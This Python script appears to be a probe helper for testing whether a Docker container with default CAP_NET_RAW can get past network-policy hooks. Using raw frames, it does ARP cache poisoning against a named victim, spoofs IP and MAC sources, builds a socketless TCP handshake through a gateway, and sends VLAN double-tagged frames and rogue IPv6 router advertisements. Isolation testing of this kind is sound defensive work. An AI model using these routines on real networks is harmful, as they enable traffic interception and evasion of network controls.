"""
Frames that root in a stock container makes itself (CAP_NET_RAW is Docker's default): no socket hook sees them.

Standard library only, run inside with the machine's interpreter: `raw_frames.py VERB ARGUMENTS`, prints one word.
"""

from __future__ import annotations

import fcntl
import socket
import struct
import sys
import time

PAYLOAD = b"escaped-frame"
LIMIT_S = 2.0
SYN, ACK, PUSH = 2, 16, 8


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


class Link:
    """One interface: what it is called, and a socket that sends and sees whole frames."""

    def __init__(self, name: str = "eth0") -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((name, 0))
        self.socket.settimeout(LIMIT_S)
        request = struct.pack("256s", name.encode())
        self.mac = fcntl.ioctl(self.socket, 0x8927, request)[18:24]
        self.address = socket.inet_ntoa(fcntl.ioctl(self.socket, 0x8915, request)[20:24])

    def arp(self, operation: int, sender_mac: bytes, sender: str, target: str) -> None:
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
        body += sender_mac + socket.inet_aton(sender) + b"\0" * 6 + socket.inet_aton(target)
        self.socket.send(b"\xff" * 6 + self.mac + b"\x08\x06" + body)

    def mac_of(self, address: str) -> bytes:
        """Ask as the kernel does; an answer that does not come is no neighbour."""
        self.arp(1, self.mac, self.address, address)
        end = time.monotonic() + LIMIT_S
        while time.monotonic() < end:
            frame = self.socket.recv(2048)
            if frame[12:14] == b"\x08\x06" and frame[28:32] == socket.inet_aton(address):
                return frame[22:28]
        raise TimeoutError

    def ip(
        self, protocol: int, source: str, target: str, body: bytes, mac: bytes, own_mac: bytes | None = None
    ) -> None:
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0)
        head += socket.inet_aton(source) + socket.inet_aton(target)
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        self.socket.send(mac + (own_mac or self.mac) + b"\x08\x00" + head + body)

    def datagram(
        self, target: str, port: int, mac: bytes, source: str | None = None, own_mac: bytes | None = None
    ) -> None:
        body = struct.pack("!HHHH", 40000, port, 8 + len(PAYLOAD), 0) + PAYLOAD
        self.ip(17, source or self.address, target, body, mac, own_mac)

    def segment(
        self, target: str, mac: bytes, own_port: int, port: int, seq: int, ack: int, flags: int, data: bytes = b""
    ) -> None:
        head = struct.pack("!HHIIBBHHH", own_port, port, seq, ack, 0x50, flags, 64240, 0, 0)
        pseudo = socket.inet_aton(self.address) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, 20 + len(data))
        head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
        self.ip(6, self.address, target, head + data, mac)


def udp(target: str, port: str) -> str:
    link = Link()
    mac = link.mac_of(target)
    link.datagram(target, int(port), mac)
    return "sent"


def tcp(target: str, listener: str, gateway: str = "") -> str:
    """A connection without a socket, by a gateway if one is named, until the other side answers data. Where the kernel
    drops what comes in for the listener, it does not reset what it did not begin."""
    link, port, said = Link(), int(listener), "silence"
    quiet = socket.create_server((link.address, 40001))
    mac = link.mac_of(gateway or target)
    link.segment(target, mac, 40001, port, 1000, 0, SYN)
    end = time.monotonic() + LIMIT_S
    while time.monotonic() < end:
        try:
            frame = link.socket.recv(2048)
        except TimeoutError:
            break
        answer = frame[34:54]
        if frame[23:24] != b"\x06" or frame[26:30] != socket.inet_aton(target):
            continue
        source, own, seq, _ack, _, flags = struct.unpack("!HHIIBB", answer[:14])
        if (source, own) != (port, 40001):
            continue
        if flags & 4:
            return "reset"
        if flags & SYN:
            said, end = "connected", time.monotonic() + LIMIT_S
            link.segment(target, mac, 40001, port, 1001, seq + 1, ACK | PUSH, PAYLOAD)
        elif flags & PUSH:
            said = "answered"
            break
    quiet.close()
    return said


def spoof(address: str, target: str, port: str, mac: str = "") -> str:
    """With another's address, and its MAC where one is given."""
    link = Link()
    link.datagram(target, int(port), link.mac_of(target), address, bytes.fromhex(mac.replace(":", "")) or None)
    return "sent"


def poison(address: str, victim: str) -> str:
    """Say that `address` is here: unasked, to everybody and to the victim alone."""
    link = Link()
    for operation in (1, 2):
        link.arp(operation, link.mac, address, address)
        link.arp(operation, link.mac, address, victim)
    return "sent"


def who_has(address: str) -> str:
    try:
        return Link().mac_of(address).hex(":")
    except TimeoutError:
        return "silence"


def odd(target: str) -> str:
    """Frames that parsers disagree on: tags, doubled tags, IPv6 router advertisements, LLDP, an unknown type."""
    link = Link()
    mac = link.mac_of(target)
    inner = mac + link.mac
    body = struct.pack("!HHHH", 40000, 5000, 8 + len(PAYLOAD), 0) + PAYLOAD
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0)
    head += socket.inet_aton(link.address) + socket.inet_aton(target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    packet = b"\x08\x00" + head + body
    tag = b"\x81\x00\x00\x00"
    for tags in (tag, b"\x88\xa8\x00\x00" + tag, tag * 2):
        link.socket.send(inner + tags + packet)
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    six = struct.pack("!IHBB", 6 << 28, len(advertisement), 58, 255)
    six += socket.inet_pton(socket.AF_INET6, "fe80::1") + socket.inet_pton(socket.AF_INET6, "ff02::1")
    link.socket.send(bytes.fromhex("333300000001") + link.mac + b"\x86\xdd" + six + advertisement)
    link.socket.send(bytes.fromhex("0180c200000e") + link.mac + b"\x88\xcc" + PAYLOAD.ljust(46))
    link.socket.send(inner + b"\x88\xb5" + PAYLOAD.ljust(46))
    return "sent"


if __name__ == "__main__":
    print(globals()[sys.argv[1]](*sys.argv[2:]), flush=True)
